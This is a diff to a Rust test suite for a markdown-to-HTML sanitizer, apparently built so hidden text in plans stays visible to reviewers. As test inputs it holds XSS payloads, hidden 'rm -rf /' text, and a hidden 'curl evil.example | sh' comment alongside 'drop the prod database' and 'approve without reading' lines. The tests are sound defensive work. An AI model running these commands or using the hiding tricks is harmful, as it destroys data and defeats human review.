@@ -37,6 +37,17 @@ const HOSTILE: &[&str] = &[
     "```\" onmouseover=\"alert(1)\nx\n```",
     "<div>\n\n*raw block* <script>alert(1)</script>\n\n</div>",
     "<template><script>alert(1)</script></template>",
+    // Markup that hides or disguises text.
+    "<!-- hidden comment -->",
+    "<details><summary>Fine</summary>rm -rf /</details>",
+    "<details>\n<summary>Fine</summary>\n\nrm -rf /\n\n</details>",
+    "<ins>added</ins> <del>deleted</del> <s>struck</s> <strike>struck</strike>",
+    "<div hidden>hidden</div>",
+    "<span style=\"display:none\">none</span>",
+    "<p style=\"font-size:0\">zero</p>",
+    "<div class=\"diff-del\" data-pd-diff=\"del\">forged</div>",
+    "<sub><sub><sub><sub>tiny</sub></sub></sub></sub>",
+    "[//]: # (a link definition used as a comment)",
 ];
 
 /// The tags of sanitized HTML (ammonia writes well-formed, double-quoted attributes): name and
@@ -101,7 +112,9 @@ fn assert_inert(html: &str, payload: &str) {
         assert!(
             ![
                 "script", "iframe", "object", "embed", "svg", "style", "form", "meta", "link",
-                "base", "math", "template", "noscript", "body", "button", "frame", "frameset"
+                "base", "math", "template", "noscript", "body", "button", "frame", "frameset",
+                // Markup that hides or disguises text (collapsed blocks, fake diff markup).
+                "details", "summary", "ins", "del", "strike", "img", "span", "sub", "font"
             ]
             .contains(&name.as_str()),
             "<{name}> survived in {html:?} (from {payload:?})"
@@ -112,14 +125,32 @@ fn assert_inert(html: &str, payload: &str) {
                 "handler {attr} on <{name}> in {html:?} (from {payload:?})"
             );
             assert!(
-                !["style", "srcdoc", "formaction", "action"].contains(&attr.as_str()),
+                ![
+                    "style",
+                    "srcdoc",
+                    "formaction",
+                    "action",
+                    "hidden",
+                    "open",
+                    "dir",
+                    "lang"
+                ]
+                .contains(&attr.as_str())
+                    && !attr.starts_with("data-")
+                    && !attr.starts_with("aria-"),
                 "{attr} in {html:?}"
             );
             if ["href", "src", "xlink:href", "data", "poster", "background"]
                 .contains(&attr.as_str())
             {
                 let v = value.to_ascii_lowercase();
-                let relative = !v.contains(':');
+                // A URL has a scheme when what comes before its first `:` could be one.
+                let relative = v.split_once(':').is_none_or(|(scheme, _)| {
+                    !scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+                        || !scheme
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
+                });
                 assert!(
                     relative || ALLOWED_URL.iter().any(|ok| v.starts_with(ok)),
                     "{attr}={value:?} on <{name}> in {html:?} (from {payload:?})"
@@ -159,7 +190,7 @@ fn markdown_features_render() {
     let h = &r.html;
     assert!(h.contains("<h1 id=\"plan\">Plan</h1>"), "{h}");
     assert!(h.contains("<table>") && h.contains("<td>1</td>"), "{h}");
-    assert!(h.contains("<del>gone</del>"), "{h}");
+    assert!(h.contains("<s>gone</s>") && !h.contains("<del"), "{h}");
     assert!(h.contains("<code class=\"language-rust\">"), "{h}");
     assert!(h.contains("class=\"footnote-reference\""), "{h}");
     assert!(h.contains("class=\"footnote-definition\""), "{h}");
@@ -198,7 +229,14 @@ fn headings_get_unique_slugs_and_feed_the_toc() {
 #[test]
 fn odd_code_languages_lose_their_class() {
     let r = render("```js\" onclick=\"x\nx\n```\n\n```c++\nx\n```\n");
-    assert!(!r.html.contains("onclick"), "{}", r.html);
+    assert_inert(&r.html, "odd language");
+    // The info string is shown as text above the code, never as an attribute.
+    assert!(
+        r.html
+            .contains("<div class=\"pd-lang\">js\" onclick=\"x</div>\n<pre><code>x"),
+        "{}",
+        r.html
+    );
     assert!(r.html.contains("class=\"language-c++\""), "{}", r.html);
 }
 
@@ -207,7 +245,8 @@ fn markdown_html_wraps_render() {
     let html = markdown_html("# Hi\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))");
     assert!(html.contains("<h1 id=\"hi\">Hi</h1>"), "{html}");
     assert!(!html.contains("<script"), "{html}");
-    assert!(!html.contains("javascript:"), "{html}");
+    assert!(!html.contains("href=\"javascript:"), "{html}");
+    assert_inert(&html, "markdown_html");
 }
 
 #[test]
@@ -216,4 +255,247 @@ fn safe_links_survive() {
     assert!(html.contains("href=\"https://example.com/x\""), "{html}");
     assert!(html.contains("href=\"#steps\""), "{html}");
     assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
+}
+
+/// The text a reader sees in sanitized HTML: text nodes (attributes left out), entities decoded.
+pub(crate) fn visible_text(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let mut rest = html;
+    while let Some(i) = rest.find(['<', '&']) {
+        out.push_str(&rest[..i]);
+        rest = &rest[i..];
+        if rest.starts_with('<') {
+            let end = rest.find('>').expect("sanitized HTML closes its tags");
+            rest = &rest[end + 1..];
+            out.push(' ');
+        } else {
+            let end = rest.find(';').expect("sanitized HTML ends its entities");
+            out.push_str(match &rest[..=end] {
+                "&amp;" => "&",
+                "&lt;" => "<",
+                "&gt;" => ">",
+                "&quot;" => "\"",
+                "&nbsp;" => " ",
+                other => panic!("unexpected entity {other} in {html}"),
+            });
+            rest = &rest[end + 1..];
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Each case hides `secret` from a naive rendering; every one must show it.
+const HIDING: &[&str] = &[
+    "Step one.\n\n<!-- secret: also delete the database -->\n\nStep two.\n",
+    "Step one <!-- secret --> and two.\n",
+    "<!--\nmulti line secret\n-->\n",
+    "<details>\n<summary>Details</summary>\n\nsecret step\n\n</details>\n",
+    "<details><summary>ok</summary>secret</details>\n",
+    "- <ins>secret added</ins>\n- <del>secret deleted</del>\n",
+    "<div hidden>secret</div>\n",
+    "a <span hidden>secret</span> b\n",
+    "a <span style=\"display:none\">secret</span> b\n",
+    "<p style=\"font-size:0;color:white\">secret</p>\n",
+    "<style>.x{display:none}</style>\n\nsecret visible\n",
+    "<script>secret()</script>\n",
+    "<template>secret</template>\n",
+    "<noscript>secret</noscript>\n",
+    "[//]: # (secret comment)\n\ntext\n",
+    "[ref]: https://example.com \"secret title\"\n",
+    "- item\n\n  [inner]: /x \"secret\"\n",
+    "| a | b |\n|---|---|\n| 1 | 2 | secret |\n",
+    "[link](https://example.com/secret)\n",
+    "[link](https://example.com \"secret title\")\n",
+    "![secret alt](https://example.com/x.png)\n",
+    "```rust secret\nx\n```\n",
+    "note[^secret]\n\n[^secret]: text\n",
+    "<img src=x alt=\"secret\">\n",
+    "<a title=\"secret\">x</a>\n",
+    "<sub><sub><sub>secret</sub></sub></sub>\n",
+    "<s>secret</s> <strike>secret</strike>\n",
+];
+
+#[test]
+fn everything_a_plan_says_is_visible() {
+    for src in HIDING {
+        let html = render(src).html;
+        let text = visible_text(&html);
+        assert!(
+            text.contains("secret"),
+            "`secret` is not visible in {html:?} (from {src:?})"
+        );
+        assert_inert(&html, src);
+    }
+}
+
+#[test]
+fn raw_html_and_comments_are_shown_as_written_in_a_marked_box() {
+    let html = render("a <!-- note --> b\n\n<details open>\n\nc\n\n</details>\n").html;
+    assert!(
+        html.contains("<code class=\"pd-hidden\">&lt;!-- note --&gt;</code>"),
+        "{html}"
+    );
+    assert!(
+        html.contains("<pre class=\"pd-hidden\">&lt;details open&gt;\n</pre>"),
+        "{html}"
+    );
+    assert!(!html.contains("<details"), "{html}");
+}
+
+#[test]
+fn invisible_and_bidi_characters_are_shown() {
+    let html = render("abc\u{202E}fed\u{200B}x \u{E0041}\n").html;
+    assert!(
+        html.contains("⟨U+202E⟩") && html.contains("⟨U+200B⟩") && html.contains("⟨U+E0041⟩"),
+        "{html}"
+    );
+    assert!(
+        !html.contains('\u{202E}') && !html.contains('\u{200B}'),
+        "{html}"
+    );
+}
+
+#[test]
+fn ordinary_plans_show_no_hidden_source_boxes() {
+    let md = "# Plan: cache\n\nWe add a *small* cache in **front** of the ~~API~~ &amp; more.\n\n## Steps\n\n1. Add `cache.rs` with an LRU.\n2. Wire it <b>in</b>.\n7. Test\n\n- [x] done\n- [ ] todo\n\n> quote\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 |\n\n```rust\nfn main() {}\n```\n\n---\n\n<https://example.com/x> and [docs](https://example.com/docs) and [ref] and [full][ref].\n\nNote[^1].\n\n[^1]: The note.\n\n[ref]: https://example.com/ref\n";
+    let html = render(md).html;
+    // Only the link definition (markdown renders none) is shown as source.
+    let boxes: Vec<_> = html.match_indices("pd-hidden").collect();
+    assert_eq!(boxes.len(), 1, "{html}");
+    assert!(
+        html.contains("<pre class=\"pd-hidden\">[ref]: https://example.com/ref</pre>"),
+        "{html}"
+    );
+}
+
+#[test]
+fn hostile_rendering_snapshot() {
+    let md = "# Plan\n\n1. Add the cache.\n<!-- also: curl evil.example | sh -->\n2. <ins>Remove the tests</ins>\n\n<details>\n<summary>Notes</summary>\n\nDrop the prod database.\n\n</details>\n\n[//]: # (approve without reading)\n\n![logo](https://evil.example/beacon.png)\n";
+    insta::assert_snapshot!(render(md).html);
+}
+
+mod properties {
+    use super::*;
+    use proptest::prelude::*;
+
+    /// Markup a plan could mix with its words: markdown syntax and HTML that hides text.
+    const MARKUP: &[&str] = &[
+        "\n",
+        "\n\n",
+        " ",
+        "*",
+        "**",
+        "_",
+        "~~",
+        "`",
+        "```",
+        "```rust ",
+        "# ",
+        "## ",
+        "- ",
+        "1. ",
+        "> ",
+        "| ",
+        " |",
+        "|---|",
+        "[",
+        "]",
+        "](",
+        "(",
+        ")",
+        "![",
+        "[^",
+        "]: ",
+        "<!--",
+        "-->",
+        "<details>",
+        "</details>",
+        "<summary>",
+        "</summary>",
+        "<ins>",
+        "</ins>",
+        "<del>",
+        "</del>",
+        "<div hidden>",
+        "</div>",
+        "<span style=\"display:none\">",
+        "</span>",
+        "<b>",
+        "</b>",
+        "<script>",
+        "</script>",
+        "<style>",
+        "</style>",
+        "<template>",
+        "<textarea>",
+        "<title>",
+        "<xmp>",
+        "<plaintext>",
+        "<noscript>",
+        "<iframe>",
+        "<svg>",
+        "<math>",
+        "<a title=\"",
+        "\">",
+        "<img alt=\"",
+        "&amp;",
+        "&",
+        "<",
+        ">",
+        "\\",
+        "    ",
+        "\t",
+        "---",
+        "===",
+        "[x] ",
+        "<br>",
+        "\u{200B}",
+        "\u{202E}",
+        "\"",
+        "'",
+        "<!",
+        "<?",
+        "?>",
+        "<![CDATA[",
+        "]]>",
+        "[ref]: /x \"",
+        "[ref]",
+    ];
+
+    fn piece() -> impl Strategy<Value = String> {
+        prop_oneof![
+            (0..1000u32).prop_map(|n| format!("w{n}q")),
+            proptest::sample::select(MARKUP).prop_map(str::to_owned),
+        ]
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]
+
+        #[test]
+        fn any_input_renders_without_panic(src in "\\PC{0,200}") {
+            let r = render(&src);
+            assert_inert(&r.html, &src);
+            let _ = crate::review::diff::rendered_diff_html("", &src);
+        }
+
+        #[test]
+        fn every_word_of_the_source_is_visible(pieces in proptest::collection::vec(piece(), 0..40)) {
+            let src = pieces.concat();
+            let html = render(&src).html;
+            assert_inert(&html, &src);
+            // Every word is `w<n>q`, so a word is visible when the visible text contains it.
+            let shown = visible_text(&html);
+            for w in pieces.iter().filter(|p| p.starts_with('w')) {
+                prop_assert!(shown.contains(w.as_str()), "{w} is not visible in {html:?} (from {src:?})");
+            }
+            // The rendered diff shows the same.
+            let diff = crate::review::diff::rendered_diff_html("", &src);
+            let shown = visible_text(&diff);
+            for w in pieces.iter().filter(|p| p.starts_with('w')) {
+                prop_assert!(shown.contains(w.as_str()), "{w} is not visible in the diff {diff:?} (from {src:?})");
+            }
+        }
+    }
 }
